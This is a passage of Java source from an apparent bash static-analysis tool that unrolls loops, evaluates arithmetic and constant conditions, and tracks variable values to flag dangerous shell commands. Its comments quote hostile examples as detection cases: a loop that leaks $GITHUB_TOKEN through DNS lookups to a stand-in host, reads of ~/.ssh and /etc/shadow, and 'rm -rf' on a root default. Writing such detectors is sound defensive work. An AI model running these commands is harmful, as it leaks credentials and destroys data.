    private void replayOnce(Loop loop, List<String> steps, Vars vars, Map<String, String> before, Seen largest) {
        Map<String, String> now = new HashMap<>(before);
        boolean going = blank(loop.start()) || step(loop.start(), now, largest, vars);
        int passes = loop.values() != null ? loop.values().size() : MAX_PASSES;
        for (int pass = 0; going && pass < passes; pass++) {
            if (!blank(loop.condition())) {
                String held = Arithmetic.bash(loop.condition(), now::get);
                if (held != null && held.equals("0") != loop.until()) {
                    break; // the condition ends the loop
                }
                // a condition not computed may hold: the loop may go on; one that assigns
                // (`(( i++ < 3 ))`) changes the values
                if (held != null) {
                    step(loop.condition(), now, largest, vars);
                }
            }
            if (loop.name() != null) {
                if (loop.values() != null) {
                    now.put(loop.name(), loop.values().get(pass));
                } else {
                    now.remove(loop.name());
                }
            }
            for (String t : steps) {
                if (!step(t, now, largest, vars)) {
                    going = false;
                    break;
                }
            }
            if (going && !blank(loop.step())) {
                going = step(loop.step(), now, largest, vars);
            }
        }
    }

    private static boolean blank(String text) {
        return text == null || text.isBlank();
    }

    /**
     * Computes one arithmetic step over {@code now}, keeping the largest values; false when it
     * is not computed, or when a value reached {@link #REPLAY_CAP}: replayed further, bash's
     * 64-bit numbers would wrap ({@code d *= 20} sixty times is negative), and a wrapped value
     * would read as a short or negative wait.
     */
    private boolean step(String text, Map<String, String> now, Seen largest, Vars vars) {
        Map<String, String> set = arithmeticAssignment(text, new Vars(now, vars.refs));
        if (set == null) {
            return false;
        }
        now.putAll(set);
        set.forEach((name, v) -> {
            largest.largest().merge(name, v, BashWalker::larger);
            long n = Long.parseLong(v);
            largest.ends().merge(name, new Ends(n, n, n), (a, b) -> a.with(n));
        });
        return set.values().stream().noneMatch(v -> Math.abs((double) Long.parseLong(v)) >= REPLAY_CAP);
    }

    /** The magnitude that ends a replay (see {@link #step}): far past any wait, far below a wrap. */
    private static final double REPLAY_CAP = 1e12;

    /** The number of larger magnitude of two computed numbers' texts. */
    private static String larger(String a, String b) {
        return Math.abs((double) Long.parseLong(a)) >= Math.abs((double) Long.parseLong(b)) ? a : b;
    }


    private void forBodyWalk(BashParser.ForClauseContext f, Ctx c, Unit u, Position pos, Ctx body) {
        boolean forever = f.ARITH_CMD() != null && f.ARITH_CMD().getText().replaceAll("\\s", "").matches("\\(\\([^;]*;;[^;]*\\)\\)")
                && !pos.background() && !hasLiveWord(f.doGroup(), LOOP_EXITS, u);
        List<String> values = f.ARITH_CMD() == null && usesVariable(f.doGroup(), f.WORD().get(0).getText())
                ? literalLoopValues(f.WORD(), u, c) : null;
        // `for _ in 1; do …; done`: one plain word, the body surely runs, once (see #once)
        Ctx each = f.ARITH_CMD() == null && f.IN() != null && f.WORD().size() == 2
                && PLAIN_WORD.matcher(f.WORD().get(1).getText()).matches() && once(f.doGroup(), c)
                ? c.with(structural(c, Provenance.COMPOUND)) : body;
        if (values != null) {
            // `for d in dist build; do rm -rf "$d"; done`: a short list of literal words is
            // walked once per value, so each command is judged with the value it gets
            String name = f.WORD().get(0).getText();
            for (String value : values) {
                each.vars().known.put(name, value);
                doGroup(f.doGroup(), each, u);
            }
            each.vars().known.remove(name);
        } else if (f.ARITH_CMD() == null && f.WORD().size() > 1) {
            // `for f in *.txt; do …`: the values are in-project paths (see ProjectLoops)
            List<String> raw = f.WORD().subList(1, f.WORD().size()).stream().map(TerminalNode::getText).toList();
            // `for t in "$GITHUB_TOKEN"; do dig "$t.x.example"; done` (rt34b): the loop variable
            // holds the parameter read by its spelling, as `t=$GITHUB_TOKEN` does (see #spelledParameter)
            raw.stream().map(BashWalker::spelledParameter).filter(java.util.Objects::nonNull).findFirst()
                    .ifPresent(spelled -> each.vars().maybe.put(f.WORD().get(0).getText(), spelled));
            // `for f in $(find .)`: the values are names split at blanks and newlines
            Ctx loop = raw.stream().anyMatch(ProjectLoops::unquotedSubstitution)
                    || c.vars().splitArrays.stream().anyMatch(n -> readsArray(raw, n))
                    ? each.wrapped(Segment.SPLIT_LOOP + f.WORD().get(0).getText()) : each;
            doGroup(f.doGroup(), projectLoop(loop, f.WORD().get(0).getText(), ProjectLoops.forSamples(raw), f.doGroup(), u), u);
        } else {
            doGroup(f.doGroup(), forever ? each.wrapped(ENDLESS_LOOP) : each, u);
        }
    }

    /** See {@link Segment#ENDLESS_LOOP}: {@code while true}, {@code while :}, {@code while sleep 5}, {@code until false}, {@code for ((;;))}. */
    private static final String ENDLESS_LOOP = Segment.ENDLESS_LOOP;

    /** Loop conditions that always succeed, whitespace removed, a trailing separator dropped. */
    private static final Pattern ALWAYS_TRUE = Pattern.compile(
            "true|:|\\[1\\]|\\[\\[1\\]\\]|\\(\\(1\\)\\)|sleep[0-9.]+[smhd]?|/bin/true|/usr/bin/true");
    /** White space, and trailing list operators, dropped from a constant's text; compiled once, not per pipeline. */
    private static final Pattern SPACE = Pattern.compile("\\s");
    private static final Pattern TRAILING_OPS = Pattern.compile("[;&]+$");
    /** Loop conditions that always fail. */
    private static final Pattern ALWAYS_FALSE = Pattern.compile("false|/bin/false|/usr/bin/false|\\(\\(0\\)\\)");
    /** Words that can end a loop from inside. */
    private static final Set<String> LOOP_EXITS = Set.of("break", "exit", "return", "exec", "kill", "logout");

    /**
     * True when a while/until loop in the foreground never ends: its condition is constant and
     * nothing in it can leave the loop. A backgrounded loop is the background's business.
     */
    private static boolean endless(BashParser.CompoundListContext condition, BashParser.DoGroupContext body,
            Pattern constant, Position pos, Unit u) {
        return !pos.background() && constantCondition(condition, constant, constant == ALWAYS_TRUE, u)
                && !hasLiveWord(body, LOOP_EXITS, u);
    }

    /**
     * {@link #hasWord} for the branches that can run: the then-branch of an {@code if} or
     * {@code elif} whose condition surely fails ({@code if false; then break; fi}, {@code if [ 1 -eq
     * 2 ]}) is left out, its condition and the other branches are read. A break that can never run
     * is no way out of the loop.
     */
    private static boolean hasLiveWord(ParseTree t, Set<String> words, Unit u) {
        List<String> tokens = new ArrayList<>();
        liveTokens(t, tokens, u);
        return hasWord(tokens, words);
    }

    private static void liveTokens(ParseTree t, List<String> out, Unit u) {
        if (t instanceof TerminalNode n) {
            out.add(n.getText());
            return;
        }
        for (int i = 0; i < t.getChildCount(); i++) {
            ParseTree child = t.getChild(i);
            // IF/ELIF cond THEN body: the body after a condition that surely fails is dead
            if ((t instanceof BashParser.IfClauseContext || t instanceof BashParser.ElifPartContext)
                    && child instanceof BashParser.CompoundListContext body && i >= 3
                    && t.getChild(i - 1) instanceof TerminalNode then && then.getSymbol().getType() == BashParser.THEN
                    && surelyFails((BashParser.CompoundListContext) t.getChild(i - 2), u)) {
                continue;
            }
            liveTokens(child, out, u);
        }
    }

    /** True for a condition that always fails: {@code false}, {@code ((0))}, a constant test that is false ({@link #constantTest}). */
    private static boolean surelyFails(BashParser.CompoundListContext condition, Unit u) {
        return constantCondition(condition, ALWAYS_FALSE, false, u);
    }

    /**
     * True when a condition's text, whitespace removed and a trailing separator dropped, matches
     * {@code constant}, or the condition tests constants only and gives {@code value} ({@link #constantTest}).
     */
    private static boolean constantCondition(BashParser.CompoundListContext condition, Pattern constant, boolean value, Unit u) {
        String cond = condition.getText().replaceAll("\\s", "").replaceAll("[;&]+$", "");
        return constant.matcher(cond).matches() || Boolean.valueOf(value).equals(constantTest(text(condition, u)));
    }

    private static final Pattern ARITH_CONSTANT = Pattern.compile("\\(\\(\\s*(-?[0-9]{1,18})\\s*\\)\\)");

    /**
     * The value of a loop condition that tests constants only ({@code [ 1 -eq 1 ]},
     * {@code [[ true ]]}, {@code test 1}, {@code ! [ -z x ]}, {@code ((2))}), or null when it reads
     * anything that may change (a variable, a file, a quoted or computed word, a command).
     */
    static Boolean constantTest(String text) {
        String t = text.trim().replaceAll("[;&\\s]+$", "");
        java.util.regex.Matcher a = ARITH_CONSTANT.matcher(t);
        if (a.matches()) {
            return Long.parseLong(a.group(1)) != 0;
        }
        if (t.isEmpty() || Pattern.compile("[$`'\"\\\\|&;<>(){}*?~]").matcher(t).find()) {
            return null;
        }
        List<String> w = new ArrayList<>(List.of(t.split("\\s+")));
        boolean negate = false;
        if (w.get(0).equals("!")) {
            negate = true;
            w.remove(0);
        }
        List<String> in;
        if (w.size() >= 2 && w.get(0).equals("[") && w.get(w.size() - 1).equals("]")
                || w.size() >= 2 && w.get(0).equals("[[") && w.get(w.size() - 1).equals("]]")) {
            in = new ArrayList<>(w.subList(1, w.size() - 1));
        } else if (!w.isEmpty() && w.get(0).equals("test")) {
            in = new ArrayList<>(w.subList(1, w.size()));
        } else {
            return null;
        }
        if (!in.isEmpty() && in.get(0).equals("!")) {
            negate = !negate;
            in.remove(0);
        }
        Boolean v = switch (in.size()) {
            case 0 -> false;
            case 1 -> true;
            case 2 -> in.get(0).equals("-n") ? Boolean.TRUE : in.get(0).equals("-z") ? Boolean.FALSE : null;
            case 3 -> compare(in.get(0), in.get(1), in.get(2));
            default -> null;
        };
        return v == null ? null : v ^ negate;
    }

    private static Boolean compare(String x, String op, String y) {
        switch (op) {
            case "=", "==" -> {
                return x.equals(y);
            }
            case "!=" -> {
                return !x.equals(y);
            }
            default -> { }
        }
        if (!x.matches("-?[0-9]{1,18}") || !y.matches("-?[0-9]{1,18}")) {
            return null;
        }
        int c = Long.compare(Long.parseLong(x), Long.parseLong(y));
        return switch (op) {
            case "-eq" -> c == 0;
            case "-ne" -> c != 0;
            case "-lt" -> c < 0;
            case "-le" -> c <= 0;
            case "-gt" -> c > 0;
            case "-ge" -> c >= 0;
            default -> null;
        };
    }

    /**
     * True when some token of the tree is one of the words, or is {@code continue N} with N above
     * 1 (which goes on with an outer loop, leaving this one).
     */
    private static boolean hasWord(ParseTree t, Set<String> words) {
        List<String> tokens = new ArrayList<>();
        tokens(t, tokens);
        return hasWord(tokens, words);
    }

    private static boolean hasWord(List<String> tokens, Set<String> words) {
        for (int i = 0; i < tokens.size(); i++) {
            String w = tokens.get(i);
            if (words.contains(w) || w.equals("continue") && i + 1 < tokens.size() && tokens.get(i + 1).matches("0*[2-9][0-9]*|0*1[0-9]+")) {
                return true;
            }
        }
        return false;
    }

    private static void tokens(ParseTree t, List<String> out) {
        if (t instanceof TerminalNode n) {
            out.add(n.getText());
            return;
        }
        for (int i = 0; i < t.getChildCount(); i++) {
            tokens(t.getChild(i), out);
        }
    }

    private void doGroup(BashParser.DoGroupContext g, Ctx c, Unit u) {
        if (g.compoundList() != null) {
            compoundList(g.compoundList(), c, u);
        } else {
            compoundList(g.braceGroup().compoundList(), c, u);
        }
    }

    /** True when the loop body mentions {@code $name}, {@code ${name…}} or the bare name arithmetic reads (else one walk says it all). */
    private static boolean usesVariable(BashParser.DoGroupContext body, String name) {
        // bare too: arithmetic reads the name itself (`$((x))`, `${s:x}`, `a[x]`) and evaluates its value
        return Pattern.compile("(?<![A-Za-z0-9_])" + Pattern.quote(name) + "(?![A-Za-z0-9_])").matcher(body.getText()).find();
    }

    /** Most values of a for list that is walked once per value. */
    private static final int MAX_UNROLLED = 8;

    /**
     * The values of {@code for NAME in W…} when every word is literal and there are at most
     * {@link #MAX_UNROLLED}; null otherwise (no list, a dynamic, glob or brace word, too many).
     */
    private List<String> literalLoopValues(List<TerminalNode> words, Unit u, Ctx c) {
        if (words.size() < 2 || words.size() - 1 > MAX_UNROLLED || !dev.shellwarden.grammar.bash.Names.isIdentifier(words.get(0).getText())) {
            return null;
        }
        List<String> values = new ArrayList<>();
        for (TerminalNode w : words.subList(1, words.size())) {
            List<Word> list = listExpansion(w.getText(), c);
            if (list != null) {
                // "${a[@]}", "$@" of known words: each element is one value
                for (Word e : list) {
                    if (!e.literal() || e.text().isEmpty() || e.has(WordFeature.GLOB) || values.size() >= MAX_UNROLLED) {
                        return null;
                    }
                    values.add(e.text());
                }
                continue;
            }
            Word word = decode(w.getSymbol(), u, c).word();
            // a glob outside the project (`for f in ~/.ssh/*`) stands for what it matches: the body is
            // judged with the glob itself in the variable's place (`cat ~/.ssh/*`), as the path rules
            // read a glob operand; a project glob keeps its ProjectLoops samples
            // (a relative glob stays dynamic: SW2038 asks about the writes its unknown names get)
            if (word.literal() && word.has(WordFeature.GLOB) && !word.has(WordFeature.BRACE) && w.getText().indexOf('{') < 0
                    && ProjectLoops.forSamples(List.of(w.getText())) == null
                    && Pattern.compile("(~|/|\\.\\./|\\.\\.$).*").matcher(word.text()).matches()) {
                values.add(word.text());
                continue;
            }
            // `for f in $HOME/.ssh/*` alike: the home's glob as written, which the path rules read as the home's
            if (Pattern.compile("(\\$HOME|\\$\\{HOME\\}|\"\\$HOME\"|\"\\$\\{HOME\\}\")/[^$`'\"\\\\{]*[*?\\[][^$`'\"\\\\{]*").matcher(w.getText()).matches()) {
                values.add(w.getText().replace("\"", ""));
                continue;
            }
            // a brace word or a project glob stands for values the text does not show: keep the loop dynamic
            if (!word.literal() || word.text().isEmpty() || word.has(WordFeature.GLOB) || word.has(WordFeature.BRACE)
                    || w.getText().indexOf('{') >= 0) {
                return null;
            }
            values.add(word.text());
        }
        return values.isEmpty() ? null : values;
    }

    /**
     * The arithmetic and parameter evaluations of a word that belongs to no simple command (the
     * words of {@code case}, {@code for} and {@code select}): {@code case $((x)) in}. What they
     * run goes under the enclosing segment, its opaque reasons as segments of their own.
     */
    private void looseWordEvaluations(Token tok, Ctx c, Unit u) {
        Set<OpaqueReason> reasons = EnumSet.noneOf(OpaqueReason.class);
        wordEvaluations(tok, u, Evaluation.of(c, c.parent(), reasons));
        reasons.forEach(reason -> opaque(tok.getText(), c, reason));
    }

    private void loopWords(List<TerminalNode> words, TerminalNode arith, Ctx c, Unit u) {
        if (!words.isEmpty() && !dev.shellwarden.grammar.bash.Names.isIdentifier(words.get(0).getText())) {
            opaque(words.get(0).getText(), c, OpaqueReason.SYNTAX_ERROR); // not a variable name
        }
        if (arith != null) {
            String raw = arith.getText();
            List<String> parts = ExpansionCheck.splitTop(raw.substring(2, Math.max(2, raw.length() - 2)), ';');
            boolean ok = parts.size() == 3;
            for (String part : parts) {
                ok &= part.isBlank() || ExpansionCheck.arithmetic(part);
            }
            if (!ok) {
                opaque(raw, c, OpaqueReason.SYNTAX_ERROR);
            }
        }
        for (int i = 0; i < words.size(); i++) {
            if (i == 0) {
                c.vars().known.remove(words.get(0).getText());
            } else {
                children(words.get(i).getSymbol(), u, c, c.parent());
                looseWordEvaluations(words.get(i).getSymbol(), c, u);
            }
        }
        if (arith != null) {
            Set<OpaqueReason> reasons = EnumSet.noneOf(OpaqueReason.class);
            arithmeticText(arith.getText(), Evaluation.of(c, c.parent(), reasons));
            reasons.forEach(reason -> opaque(arith.getText(), c, reason));
            c.vars().known.clear();
            children(arith.getSymbol(), u, c, c.parent());
        }
    }

    private void cond(BashParser.CondCommandContext cc, Ctx c, Unit u, Position pos) {
        List<Word> argv = new ArrayList<>();
        argv.add(Word.literal("[["));
        for (BashParser.CondItemContext item : cc.condItem()) {
            if (item.WORD() != null) {
                argv.add(decode(item.WORD().getSymbol(), u, c).word());
            } else if (item.NEWLINE() == null) {
                argv.add(Word.literal(item.getText()));
            }
        }
        argv.add(Word.literal("]]"));
        Draft d = add(c, argv, List.of(), c.inRedirects(), c.inHeredocs(), pos);
        List<String> items = new ArrayList<>();
        for (BashParser.CondItemContext item : cc.condItem()) {
            items.add(item.NEWLINE() != null ? "\n" : item.getText());
            if (item.WORD() != null && decode(item.WORD().getSymbol(), u, c).malformed()) {
                d.reasons.add(OpaqueReason.SYNTAX_ERROR);
            }
        }
        if (!ExpansionCheck.conditional(items)) {
            d.reasons.add(OpaqueReason.SYNTAX_ERROR);
        }
        Evaluation e = Evaluation.of(c, d);
        for (BashParser.CondItemContext item : cc.condItem()) {
            if (item.WORD() != null) {
                children(item.WORD().getSymbol(), u, c, d.id);
                wordEvaluations(item.WORD().getSymbol(), u, e);
            }
        }
        condEvaluations(argv, e);
    }

    /** {@code [[ A -eq B ]]} evaluates both operands as arithmetic; {@code [[ -v NAME ]]} the name's subscript. */
    private void condEvaluations(List<Word> argv, Evaluation e) {
        for (int k = 1; k + 1 < argv.size(); k++) {
            String op = argv.get(k).text();
            if (ShellEvaluation.ARITHMETIC_TESTS.contains(op)) {
                arithmeticWord(argv.get(k - 1), e);
                arithmeticWord(argv.get(k + 1), e);
            } else if (op.equals("-v")) {
                nameReference(argv.get(k + 1), e, true);
            }
        }
    }

    private void arith(Token t, Ctx c, Unit u, Position pos) {
        String raw = t.getText();
        String inner = raw.length() >= 4 ? raw.substring(2, raw.length() - 2) : raw;
        boolean dyn = EXPANSION.matcher(inner).find();
        Word expr = new Word(inner.strip(), inner, !dyn, dyn ? Set.of(WordFeature.ARITHMETIC) : Set.of());
        Draft d = add(c, List.of(Word.literal("(("), expr, Word.literal("))")), List.of(), c.inRedirects(),
                c.inHeredocs(), pos);
        if (!ExpansionCheck.arithmetic(inner)) {
            d.reasons.add(OpaqueReason.SYNTAX_ERROR);
        }
        arithmeticText(inner, Evaluation.of(c, d));
        Map<String, String> set = c.conditional() ? null : arithmeticAssignment(inner, c.vars());
        Map<String, String> held = set != null ? Map.of() : heldAfter(inner, c.vars());
        // `(( d = 3600 * 3 ))`: d holds 10800; an uncomputed one may not have run here
        // (`d=7200; (( d = 1 )) | cat; sleep $d` sleeps 7200)
        c.vars().afterArithmetic(set, set == null);
        c.vars().heldRanges.putAll(held);
        children(t, u, c, d.id);
    }

    /**
     * The {@link Vars#heldRanges} after arithmetic {@code text} runs over names holding a range's
     * number: each name it assigns holds the text that computes it from the range
     * ({@code d=$((RANDOM)); ((d *= 3))} holds {@code d = (RANDOM), (d *= 3), d}), and the held
     * names it leaves keep theirs; empty when it reads no held name (or its assignments are not
     * computed here). WHY (rt33b): the arithmetic forgot the range, so {@code sleep $d} read as
     * an unknown duration, never at 3 × 32767.
     */
    private Map<String, String> heldAfter(String text, Vars v) {
        Map<String, String> out = new HashMap<>();
        StringBuilder prefix = new StringBuilder();
        Map<String, String> atLargest = new HashMap<>();
        v.heldRanges.forEach((name, expr) -> {
            if (!v.known.containsKey(name)) {
                out.put(name, expr);
                if (Pattern.compile("(?<![A-Za-z0-9_])" + Pattern.quote(name) + "(?![A-Za-z0-9_])").matcher(text).find()) {
                    prefix.append(name).append(" = (").append(expr).append("), ");
                    String largest = Arithmetic.bash(expr, n -> Vars.RANGES.containsKey(n) ? Vars.RANGES.get(n) : v.known.get(n));
                    if (largest != null) {
                        atLargest.put(name, largest);
                    }
                }
            }
        });
        if (prefix.isEmpty()) {
            return Map.of();
        }
        // which names the text assigns, from one computation at the ranges' largest numbers
        Map<String, String> assigned = Arithmetic.bashAssignments(text,
                n -> atLargest.containsKey(n) ? atLargest.get(n) : Vars.RANGES.containsKey(n) ? Vars.RANGES.get(n) : v.known.get(n));
        if (assigned == null) {
            return Map.of();
        }
        // a text too long for Arithmetic leaves the name unknown, as before
        assigned.keySet().forEach(name -> out.put(name, prefix + "(" + text + "), " + name));
        return out;
    }

    /**
     * The variables an arithmetic text ({@code (( … ))}, a {@code let} operand, {@code $(( … ))})
     * assigns, each with its number's text, when {@link Arithmetic} computes the whole text over
     * known integers ({@code d = 7200}, {@code d *= 60}, {@code d++}, {@code x = 1, y = x * 2});
     * empty when it assigns none; null for anything else (a nameref, an array, an unknown
     * operand), which forgets as before.
     *
     * <p>WHY: {@code d=7199; : $((d++)); sleep $((d+1))} read d as unknown after the increment.
     */
    private Map<String, String> arithmeticAssignment(String text, Vars vars) {
        Map<String, String> set = Arithmetic.bashAssignments(text, vars.known::get);
        if (set == null || set.keySet().stream().anyMatch(n -> namerefs.contains(n) || vars.target(n) != null)) {
            return null;
        }
        return set;
    }

    // ------------------------------------------------------------------ simple commands

    private void simple(BashParser.SimpleCommandContext sc, Ctx c, Unit u, Position pos) {
        List<Word> argv = new ArrayList<>();
        List<Word> assignments = new ArrayList<>();
        List<Redirect> redirects = new ArrayList<>();
        List<Heredoc> heredocs = new ArrayList<>();
        List<Token> wordTokens = new ArrayList<>();
        Token firstWord = null;
        List<BashLexerBase.HeredocBody> bodies = new ArrayList<>();
        Set<OpaqueReason> reasons = EnumSet.noneOf(OpaqueReason.class);
        boolean stdinFile = c.inStdinFile();
        if (holdsFunsub(sc, u)) {
            // `${ X=/; }` runs before the words after it are expanded: no value is known in them
            c.vars().known.clear();
        }
        // the maybe values are read as they stand before the words are expanded (see #secondReading)
        Vars maybe = maybeReading(sc, c);
        if (maybe == null && ifsTouched && readText(sc).indexOf('$') >= 0) {
            // IFS changed: the known values are read once more split by the default IFS
            // (`IFS=:; p=$PPID; kill -9 $p`, see #secondReadingActive)
            maybe = c.vars().copy();
        }
        // and the small ends of a range read directly (`kill -9 $((RANDOM % 2 ? 4242 : -1))`)
        List<Vars> lowRanges = lowRangeReadings(c.vars(), readText(sc));
        // and the other values a loop passed through (`… ((d--)); done; kill -9 $d`)
        lowRanges.addAll(loopEndReadings(c.vars(), readText(sc)));
        // the variables before the words, for the candidates' reading (see #candidateReading)
        Vars before = c.vars().candidates.isEmpty() && sc.getText().indexOf('=') < 0 ? null : c.vars().copy();
        for (ParseTree child : sc.children) {
            if (child instanceof TerminalNode t) {
                Token tok = t.getSymbol();
                wordTokens.add(tok);
                BashWords.Decoded d = decode(tok, u, c);
                if (d.malformed()) {
                    reasons.add(OpaqueReason.SYNTAX_ERROR);
                }
                List<Word> list = argv.isEmpty() && Wrappers.isAssignment(tok.getText()) ? null : listExpansion(tok.getText(), c);
                if (argv.isEmpty() && Wrappers.isAssignment(tok.getText())) {
                    assignments.add(d.word());
                } else if (argv.isEmpty() && firstWord == null) {
                    firstWord = tok;
                    if (list != null) {
                        argv.addAll(list);
                    } else {
                        expandBraces(d, argv, reasons);
                    }
                } else if (list != null) {
                    argv.addAll(list);
                } else {
                    expandBraces(d, argv, reasons);
                }
            } else if (child instanceof BashParser.RedirectContext r) {
                Redirect red = sameCommandDescriptor(redirect(r, u, c), redirects);
                redirects.add(red);
                wordTokens.add(r.WORD().getSymbol());
                if (red.op().startsWith("<<") && !red.op().equals("<<<") && !decode(r.WORD().getSymbol(), u, c).word().literal()
                        || decode(r.WORD().getSymbol(), u, c).malformed()) {
                    // bash takes no expansion in a heredoc delimiter; mvdan/sh rejects it outright.
                    reasons.add(OpaqueReason.SYNTAX_ERROR);
                }
                stdinFile |= red.op().equals("<") || red.op().equals("<>");
                Heredoc h = heredocOf(r, red, u);
                if (h != null) {
                    heredocs.add(h);
                    BashLexerBase.HeredocBody b = u.heredocs().get(r.redirectOp().getStart().getStartIndex());
                    bodies.add(b != null && !b.quoted() && red.op().startsWith("<<") && !red.op().equals("<<<") ? b : null);
                }
            }
        }
        // the candidates are taken as they stand after: `rm -rf "${D:=/}"` makes its own (see #secondReading)
        Vars candidates = candidateReading(sc, c, before);
        // `command NAME …` and `builtin NAME …` run NAME itself in this shell (skipping only
        // functions and aliases): the segment is NAME's, so that what NAME does to the shell
        // (`command alias`, `builtin declare -i`, `command printf -v`) and its redirections and
        // pipe are judged as NAME's
        stripCommandBuiltin(argv);
        boolean ownStdin = !heredocs.isEmpty();
        redirects.addAll(c.inRedirects());
        if (!ownStdin) {
            heredocs.addAll(c.inHeredocs());
        }
        Draft d = add(c, argv, assignments, redirects, heredocs, pos);
        d.reasons.addAll(reasons);
        descriptorVariables(sc, argv, redirects, c);
        checkSimple(d);
        for (Token tok : wordTokens) {
            children(tok, u, c, d.id);
            zshQualifiers(tok, u, c, d);
        }
        Evaluation e = Evaluation.of(c, d);
        for (Token tok : wordTokens) {
            wordEvaluations(tok, u, e);
        }
        commandEvaluations(d, e);
        for (int i = 0; i < heredocs.size(); i++) {
            Heredoc h = heredocs.get(i);
            BashLexerBase.HeredocBody b = i < bodies.size() ? bodies.get(i) : null;
            d.heredocDynamic.add(b != null ? heredocChildren(b.body(), c, d) : !h.quoted() && EXPANSION.matcher(h.body()).find());
        }
        // the maybe reading's segment comes before this command changes the variables, the
        // candidates' one after it is judged: each where it always stood, so segment order is kept
        secondReading(sc, c, u, pos, d, maybe, reasons, stdinFile);
        for (Vars low : lowRanges) {
            secondReading(sc, c, u, pos, d, low, reasons, stdinFile);
        }
        aliasUse(d, firstWord, sc, u, c);
        updateVars(d, c);
        analyze(d, c, stdinFile);
        secondReading(sc, c, u, pos, d, candidates, reasons, stdinFile);
    }

    /** Drops {@code command} and {@code builtin} before a literal name: they run that name itself. */
    private static void stripCommandBuiltin(List<Word> argv) {
        while (argv.size() > 1 && argv.get(0).literal() && Set.of("command", "builtin").contains(argv.get(0).text())
                && argv.get(1).literal() && !argv.get(1).text().startsWith("-")) {
            argv.remove(0);
        }
    }

    /**
     * The variables of a second reading with the values the simple command's words may see only
     * maybe ({@link Vars#maybe}: assigned in a branch, {@code true && x=/etc/shadow; cat "$x"}, or
     * inherited; {@link Vars#maybeArrays}; {@link Vars#maybePositional}), when a word reads one;
     * null when none does. Taken before the words are expanded: an expansion of the command
     * itself ({@code ${x:=w}}, {@code $((x=1))}) is no maybe value.
     */
    private static Vars maybeReading(BashParser.SimpleCommandContext sc, Ctx c) {
        Vars v = c.vars();
        String t = readText(sc);
        Vars alt = rangeReading(v, rangeNames(t), Vars.RANGES::get);
        for (Map.Entry<String, String> e : v.forkedValues.entrySet()) {
            if (readsName(t, e.getKey())) {
                alt = alt == null ? v.copy() : alt;
                alt.known.put(e.getKey(), e.getValue());
            }
        }
        if (v.maybe.isEmpty() && v.maybeArrays.isEmpty() && v.maybePositional == null && v.maybeDescriptors.isEmpty()
                && v.maybeUnset.isEmpty()) {
            return alt;
        }
        alt = maybeUnsetReading(v, t, alt);
        for (Map.Entry<String, Redirect> e : v.maybeDescriptors.entrySet()) {
            // `<&4`, `<&$fd`: a copy of a descriptor an exec may have opened (Vars#maybeDescriptors)
            String k = e.getKey();
            Pattern copy = Pattern.compile(k.startsWith("#") ? "&" + Pattern.quote(k.substring(1)) + "(?![0-9])"
                    : "&\"?\\$\\{?" + Pattern.quote(k) + "(?![A-Za-z0-9_])");
            if (!v.descriptors.containsKey(k) && copy.matcher(t).find()) {
                alt = alt == null ? v.copy() : alt;
                alt.descriptors.put(k, e.getValue());
            }
        }
        for (Map.Entry<String, List<Word>> e : v.maybeArrays.entrySet()) {
            if (!v.arrays.containsKey(e.getKey()) && t.contains("${" + e.getKey() + "[")) {
                alt = alt == null ? v.copy() : alt;
                alt.known.remove(e.getKey());
                alt.arrays.put(e.getKey(), e.getValue());
            }
        }
        if (v.maybePositional != null && v.positional == null && Pattern.compile("\\$\\{?[@*1-9]").matcher(t).find()) {
            alt = alt == null ? v.copy() : alt;
            alt.positional = v.maybePositional;
        }
        return v.reading(v.maybe, t, alt);
    }

    /** A name of {@link Vars#RANGES} read as a word, in arithmetic ({@code $((RANDOM % 5))}) or as {@code $RANDOM}. */
    private static final Pattern RANGE_READ = Pattern.compile("(?<![A-Za-z0-9_])S?RANDOM(?![A-Za-z0-9_])");

    /** The {@link Vars#RANGES} names {@code text} reads ({@link #RANGE_READ}), each once. */
    private static Set<String> rangeNames(String text) {
        Set<String> names = new java.util.LinkedHashSet<>();
        java.util.regex.Matcher m = RANGE_READ.matcher(text);
        while (m.find()) {
            names.add(m.group());
        }
        return names;
    }

    /**
     * A copy of {@code v} with each of the range {@code names} holding {@code value} of it (the
     * largest number: the longest sleep it may give; or a small end, {@link #lowRangeReadings});
     * null when {@code names} is empty.
     */
    private static Vars rangeReading(Vars v, Set<String> names, java.util.function.Function<String, String> value) {
        if (names.isEmpty()) {
            return null;
        }
        Vars alt = v.copy();
        names.forEach(name -> alt.known.putRange(name, value.apply(name)));
        return alt;
    }

    /** The small ends of every {@link Vars#RANGES} range, read beside the largest number ({@link #rangeReading}). */
    private static final List<String> LOW_ENDS = List.of("0", "1");

    /**
     * Copies of {@code v} with each {@link Vars#RANGES} name {@code text} reads set to each of
     * {@link #LOW_ENDS}; empty when it reads none. WHY: the largest number alone misses a value
     * that grows as the range's number shrinks ({@code sleep $((32767 - RANDOM))}) or a branch
     * taken on a small or even number ({@code kill -9 $((RANDOM % 2 ? 4242 : -1))}): the
     * largest, 0 and 1 cover the ends, both parities and the zero tests.
     */
    private static List<Vars> lowRangeReadings(Vars v, String text) {
        Set<String> names = rangeNames(text);
        Map<String, String> held = new HashMap<>();
        v.heldRanges.forEach((name, expr) -> {
            if (!v.known.containsKey(name) && Pattern.compile("(?<![A-Za-z0-9_])" + Pattern.quote(name) + "(?![A-Za-z0-9_])").matcher(text).find()) {
                held.put(name, expr);
                names.addAll(rangeNames(expr));
            }
        });
        List<Vars> out = new ArrayList<>();
        // a name holding a range's number is read at its largest too (a range read directly
        // gets that reading in #maybeReading)
        List<String> ends = held.isEmpty() ? LOW_ENDS : HELD_ENDS;
        for (String end : ends) {
            Vars alt = rangeReading(v, names, name -> end.equals(LARGEST) ? Vars.RANGES.get(name) : end);
            if (alt != null) {
                held.forEach((name, expr) -> {
                    String value = Arithmetic.bash(expr, alt.known::get);
                    if (value != null) {
                        alt.known.put(name, value);
                    }
                });
                out.add(alt);
            }
        }
        return out;
    }

    /**
     * Copies of {@code v} for the other values a loop passed through ({@link Vars#maybeEnds}) of
     * the names {@code text} reads without a known value: the kth copy holds every such name's
     * kth value (its last one when it has fewer) beside the other maybe values; empty when
     * {@code text} reads none. WHY (rt33b): the largest magnitude alone reads
     * {@code d=3; for i in 1 2 3; do ((d--)); done; kill -9 $d} as {@code kill -9 3}.
     */
    private static List<Vars> loopEndReadings(Vars v, String text) {
        List<Vars> out = new ArrayList<>();
        for (Map<String, String> values : loopEndValues(v, text)) {
            Vars alt = v.reading(values, text, null);
            if (alt != null) {
                out.add(alt);
            }
        }
        return out;
    }

    /**
     * The value sets {@link #loopEndReadings} reads {@code text} with: the kth holds every name
     * {@code text} reads without a known value and with {@link Vars#maybeEnds} at its kth end (its
